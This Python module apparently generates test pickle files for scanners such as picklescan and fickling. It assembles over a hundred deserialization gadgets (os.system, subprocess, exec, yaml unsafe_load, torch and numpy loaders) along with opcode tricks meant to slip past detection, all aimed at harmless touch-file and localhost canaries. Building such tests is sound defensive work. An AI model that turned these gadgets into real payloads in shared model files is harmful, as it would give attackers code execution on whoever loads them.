"""Pickles that do something when Python reads them: over a hundred kinds, in every way to call.

Each touches something that can be seen from outside, its canary: a file in a folder, an
environment variable, a connection to a socket. The kinds are the families on the test lists of
picklescan and fickling, and more. They are written as Python expressions and never run as such:
`assemble` turns an expression into opcodes. A name is split into module and name at its last
dot, or where `|` stands: `(os | environ.update)(...)`.
"""

import ast
import marshal
import pickle
import struct
import zipfile
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any

STYLES = ("reduce2", "reduce4", "inst", "obj", "newobj", "newobj_ex")
CONTAINERS = ("bare", "zip", "stream")

# A line that begins with a dash needs a module, a system or an answer that may not be there.
GADGETS = """
  os.system(command)
  posix.system(command)
- nt.system(command)
  os.popen(command)
  os.execlp('touch', 'touch', file)
  os.spawnlp(0, 'touch', 'touch', file)
  os.posix_spawnp('touch', ['touch', file], {})
  subprocess.Popen(['touch', file])
  subprocess.run(['touch', file])
  subprocess.check_output(['touch', file])
  subprocess.getoutput(command)
- commands.getoutput(command)
  pty.spawn(['touch', file])
  asyncio.run(asyncio.create_subprocess_shell(command))
- (asyncio.unix_events | _UnixSubprocessTransport._start)({}, command, True, None, None, None)
  multiprocessing.util.spawnv_passfds(b'/usr/bin/touch', ['touch', file], ())
  imaplib.IMAP4_stream(command)
  uuid._get_command_stdout('touch', file)
  _osx_support._read_output(command)
- _aix_support._read_cmd_output(command)
- _pyrepl.pager.pipe_pager('', command)
  pydoc.pipepager('', command)
  webbrowser.open(file)
  antigravity.geohash
- test.support.script_helper.assert_python_ok('-c', source)
  operator.methodcaller('system', command_bytes)(ctypes.CDLL(None))
  builtins.eval(source)
  builtins.exec(source)
  builtins.exec(builtins.compile(source, 'x', 'exec'))
  __builtin__.eval(source)
- __builtin__.apply(os.system, (command,))
  builtins.open(file, 'w')
  builtins.getattr(builtins.__import__('os'), 'system')(command)
  builtins.list(builtins.map(os.system, [command]))
  builtins.list(builtins.filter(os.system, [command]))
- builtins.globals()
- builtins.breakpoint()
- builtins.type('X', (), {})
- builtins.bytearray(1000000000000)
  functools.partial(os.system, command)()
  functools.reduce(builtins.open, [file, 'w'])
  operator.methodcaller('system', command)(importlib.import_module('os'))
  _operator.attrgetter('system')(importlib.import_module('os'))(command)
- operator.itemgetter('os')(sys.modules)()
  builtins.list(itertools.starmap(os.system, [(command,)]))
  types.FunctionType(code, {'__builtins__': importlib.import_module('builtins')})()
- types.CodeType(0, 0, 0, 0, 0, 0)
  builtins.exec(marshal.loads(code_bytes))
  pkgutil.resolve_name('os:system')(command)
  pydoc.locate('os.system')(command)
  weakref.finalize(argparse.Namespace, os.system, command)
  atexit.register(os.system, command)
  (threading | Thread.start)(threading.Timer(0, os.system, [command]))
- (contextlib | ExitStack.callback)(contextlib.ExitStack(), os.system, command)
- copyreg._reconstructor(subprocess.Popen, builtins.object, None)
  (argparse | _os.system)(command)
  typing._eval_type(typing.ForwardRef(source), {}, {})
- collections.defaultdict(os.system(command))
  runpy.run_path(helper('script.py'))
  runpy._run_code(code, {})
  (code | InteractiveInterpreter.runcode)(code.InteractiveInterpreter(), code)
  builtins.exec(codeop.compile_command(source))
  timeit.timeit(source, 'pass', time.perf_counter, 1)
  cProfile.run(source)
  profile.run(source)
  (trace | Trace.run)(trace.Trace(), source)
  (bdb | Bdb.run)(bdb.Bdb(), source)
- pdb.run(source)
- doctest.debug_script(source, True)
  (importlib.machinery | SourceFileLoader.load_module)(source_loader)
  imp.load_source('canary_imp', helper('module.py'))
  (zipimport | zipimporter.load_module)(zipimport.zipimporter(helper('code.zip')), 'inside')
  idlelib.calltip.get_entity(source)
- (idlelib.run | Executive.runcode)({}, code)
  (lib2to3.pgen2.grammar | Grammar.loads)(lib2to3.pgen2.grammar.Grammar(), pickled)
- pip.main(['--log', file, '--version'])
- ensurepip._run_pip(['--version'])
  venv.create(file)
  logging.config.fileConfig(helper('logging.ini'))
  logging.config.dictConfig(settings)
  pickle.loads(pickled)
  _pickle.loads(pickled)
- torch.load(helper('nested.pt'))
  torch.storage._load_from_bytes(pickled_stream)
  numpy.load(helper('nested.npy'), None, True)
- joblib.load(helper('nested.joblib'))
- pandas.read_pickle(helper('nested.pkl'))
- dill._dill.loads(pickled)
- cloudpickle.cloudpickle._make_function(code, {}, 'f', (), ())
  shelve.open(file)
  yaml.unsafe_load(yaml_text)
  torch.hub._load_local(helper_folder, 'entry')
  torch.utils.collect_env.run(command)
  torch.jit.unsupported_tensor_ops.execWrapper(source, {}, {})
- torch.utils.bottleneck.__main__.run_cprofile(code, {})
  (torch | UntypedStorage.from_file)(file, True, 16)
- torch.storage.UntypedStorage(1000000000000)
- torch.Tensor(1000000000000)
- (torch._dynamo.guards | GuardBuilder.get)({}, source)
- torch._inductor.codecache.compile_file('', '', ['touch', file])
- torch.fx.graph_module.reduce_graph_module({}, '')
- torch.distributed.TCPStore('127.0.0.1', port)
- torch.ops.load_library(helper('lib.so'))
  numpy.testing._private.utils.runstring(source, {})
- numpy.f2py.crackfortran.getlincoef(source, {})
  numpy.memmap(file, 'uint8', 'w+', 0, (4,))
  numpy.savetxt(file, [1.0])
  os.open(file, 65)
  os.mkdir(file)
  os.symlink('/nowhere', file)
  io.FileIO(file, 'w')
  _io.FileIO(file, 'w')
  io.open(file, 'w')
  codecs.open(file, 'w')
  gzip.open(file, 'w')
  zipfile.ZipFile(file, 'w')
  sqlite3.connect(file)
  shutil.copyfile(helper('a.py'), file)
  (pathlib | Path.touch)(pathlib.PosixPath(file))
  tempfile.mkstemp('', 'canary', folder)
  logging.FileHandler(file)
  distutils.file_util.write_file(file, ['x'])
  (os | environ.update)({'CANARY': '1'})
  os.putenv('CANARY_IN_C', '1')
  socket.create_connection(('127.0.0.1', port))
  (http.client | HTTPConnection.connect)(http.client.HTTPConnection('127.0.0.1', port))
  urllib.request.urlopen(url)
  (ftplib | FTP.connect)(ftplib.FTP(), '127.0.0.1', port)
  smtplib.SMTP('127.0.0.1', port)
  poplib.POP3('127.0.0.1', port)
  ssl.get_server_certificate(('127.0.0.1', port))
  telnetlib.Telnet('127.0.0.1', port)
- requests.api.get(url)
- os._exit(0)
- sys.exit(0)
""".strip("\n").splitlines()


SETTINGS = (
    "{'version': 1, 'handlers': {'h': {'class': 'logging.FileHandler', 'filename': FILE}}}"
)
SOURCE_LOADER = "importlib.machinery.SourceFileLoader('canary', helper('module.py'))"


@dataclass(frozen=True)
class Canary:
    """What a gadget can touch: anything new in `folder`, the variable CANARY, or the port."""

    folder: Path
    port: int = 1

    def values(self) -> dict[str, Any]:
        """The names in the expressions that stand for values."""
        file = str(self.folder / "touched")
        command, source = f"touch {file}", f"open({file!r}, 'w')"
        pickled = b"\x80\x02cos\nsystem\n" + text(command) + b"\x85R."
        return {
            "file": file,
            "folder": str(self.folder),
            "command": command,
            "command_bytes": command.encode(),
            "source": source,
            "code": ast.parse(f"builtins.compile({source!r}, 'x', 'exec')", mode="eval").body,
            "source_loader": ast.parse(SOURCE_LOADER, mode="eval").body,
            "settings": ast.parse(SETTINGS.replace("FILE", repr(file)), mode="eval").body,
            "code_bytes": marshal.dumps(compile(source, "x", "exec")),
            "pickled": pickled,
            "pickled_stream": torch_stream(pickled),
            "yaml_text": f"!!python/object/apply:os.system [{command!r}]",
            "port": self.port,
            "url": f"http://127.0.0.1:{self.port}/",
            "helper_folder": str(Path(self.helper("hubconf.py")).parent),
        }

    def helper(self, name: str) -> str:
        """A file that a gadget reads: a module, a pickle, settings."""
        path = self.folder.parent.parent / "helpers" / self.folder.name / name
        path.parent.mkdir(parents=True, exist_ok=True)
        file = str(self.folder / "touched")
        source = f"open({file!r}, 'w')"
        if path.suffix == ".py":
            path.write_text(f"{source}\ndef entry():\n    return 1\n")
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path, "w") as archive:
                archive.writestr("inside.py", source)
        elif path.suffix == ".ini":
            path.write_text(
                "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\n"
                f"handlers=h\n[handler_h]\nclass=FileHandler\nargs=({file!r},)\n"
            )
        else:
            path.write_bytes(b"\x80\x02cos\nsystem\n" + text(f"touch {file}") + b"\x85R.")
        return str(path)


def text(value: str) -> bytes:
    """Opcodes that push a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _push(value: Any, style: str, canary: Canary) -> bytes:
    if isinstance(value, ast.AST):
        return _assemble(value, style, canary)
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    return text(value) if isinstance(value, str) else pickle.dumps(value, 2)[2:-1]


def _global(module: str, name: str, style: str) -> bytes:
    if style == "reduce4":
        return text(module) + text(name) + b"\x93"
    return f"c{module}\n{name}\n".encode()


def _assemble(node: ast.AST, style: str, canary: Canary) -> bytes:
    """Opcodes that push what the expression stands for."""

    def row(nodes: Any) -> bytes:
        return b"".join(_assemble(item, style, canary) for item in nodes)

    match node:
        case ast.Constant(value=value):
            return _push(value, style, canary)
        case ast.Name(id=name):
            return _push(canary.values()[name], style, canary)
        case ast.Tuple(elts=items):
            return b"(" + row(items) + b"t"
        case ast.List(elts=items):
            return b"](" + row(items) + b"e"
        case ast.Dict(keys=keys, values=values):
            return (
                b"}(" + row(x for pair in zip(keys, values, strict=True) for x in pair) + b"u"
            )
        case ast.BinOp(left=module, right=name):
            return _global(ast.unparse(module), ast.unparse(name), style)
        case ast.Attribute(value=module, attr=name):
            return _global(ast.unparse(module), name, style)
        case ast.Call(func=ast.Name(id="helper"), args=[ast.Constant(value=name)]):
            return text(canary.helper(name))
        case ast.Call(func=ast.Attribute(value=module, attr=name), args=args) if (
            style == "inst"
        ):
            return b"(" + row(args) + f"i{ast.unparse(module)}\n{name}\n".encode()
        case ast.Call(func=function, args=args) if style == "obj":
            return b"(" + row([function, *args]) + b"o"
        case ast.Call(func=function, args=args):
            how = {"newobj": b"\x81", "newobj_ex": b"}\x92"}.get(style, b"R")
            return row([function]) + b"(" + row(args) + b"t" + how
    raise AssertionError(ast.dump(node))


def assemble(gadget: str, canary: Canary, style: str = "reduce2") -> bytes:
    """A gadget's opcodes, without a header and a STOP."""
    return _assemble(ast.parse(gadget, mode="eval").body, style, canary)


def opcodes(canary: Canary) -> dict[str, bytes]:
    """Gadgets that are no expression: tricks with the machine that reads pickles."""
    touch = text(canary.values()["command"])
    call = b"cos\nsystem\n" + touch + b"\x85R"
    array = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\0\x85B\1\0\0\0btR"
    register = assemble("copyreg.add_extension('os', 'system', 200)", canary) + b"0"
    return {
        "another module in the place of sys": b"csys\nmodules\nq\x000h\0"
        + text("sys")
        + b"h\0scsys\nget\n"
        + text("os")
        + b"\x85Rq\x010h\0"
        + text("sys")
        + b"h\1scsys\nsystem\n"
        + touch
        + b"\x85R",
        "__setstate__ by BUILD": b"cargparse\nNamespace\n)\x81}"
        + text("__setstate__")
        + b"cos\nsystem\nsb"
        + touch
        + b"b",
        "EXT1": register + b"\x82\xc8" + touch + b"\x85R",
        "EXT2": register + b"\x83\xc8\0" + touch + b"\x85R",
        "EXT4": register + b"\x84\xc8\0\0\0" + touch + b"\x85R",
        "call whose result is dropped": call + b"0N",
        "call inside an array of objects": array
        + b"(K\1K\1\x85cnumpy\ndtype\n"
        + text("O8")
        + b"\x89\x88\x87R\x89]("
        + call
        + b"etb",
        "call as a key": b"}" + call + b"Ns",
    }


HARMLESS_TO_PYTHON = {  # and refused all the same
    "PERSID": b"Ptouch\n",
    "BINPERSID of a call": b"cos\nsystem\n" + text("true") + b"\x85RQ",
    "text that is called": text("os.system") + b")R",
    "memo that is empty": b"h\x63",
}


def whole(body: bytes, style: str = "reduce2") -> bytes:
    """A pickle of one value: header, body, STOP."""
    protocol = {"inst": b"", "obj": b"", "reduce4": b"\x80\x04", "newobj_ex": b"\x80\x04"}
    return protocol.get(style, b"\x80\x02") + body + b"."


STORAGE = b"(X\7\0\0\0storagectorch\nFloatStorage\nX\1\0\0\x000X\3\0\0\0cpuK\2tQ"
TENSOR = (
    b"ctorch._utils\n_rebuild_tensor_v2\n("
    + STORAGE
    + b"K\0K\2\x85K\1\x85\x89ccollections\nOrderedDict\n)RtR"
)
NUMBERS = struct.pack("<2f", 1.0, 2.0)


def torch_zip(pickled: bytes, folder: str = "archive") -> bytes:
    """The pickle as torch.save's zip contains it, with one storage of two numbers."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in (
            ("data.pkl", pickled),
            ("byteorder", b"little"),
            ("data/0", NUMBERS),
            ("version", b"3\n"),
        ):
            archive.writestr(f"{folder}/{name}", data)
    return buffer.getvalue()


def torch_stream(pickled: bytes) -> bytes:
    """The pickle as torch.save wrote it before 1.6."""
    machine = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    start = b"".join(pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, machine))
    content = pickled.replace(STORAGE, STORAGE.replace(b"K\2tQ", b"K\2NtQ"))
    return start + content + pickle.dumps(["0"], 2) + struct.pack("<q", 2) + NUMBERS


def in_container(body: bytes, style: str, container: str) -> bytes:
    """The value alone, or beside weights that are in order."""
    if container == "bare":
        return whole(body, style)
    beside = b"}(" + text("a") + TENSOR + text("x") + body + b"u"
    return (torch_zip if container == "zip" else torch_stream)(whole(beside, style))
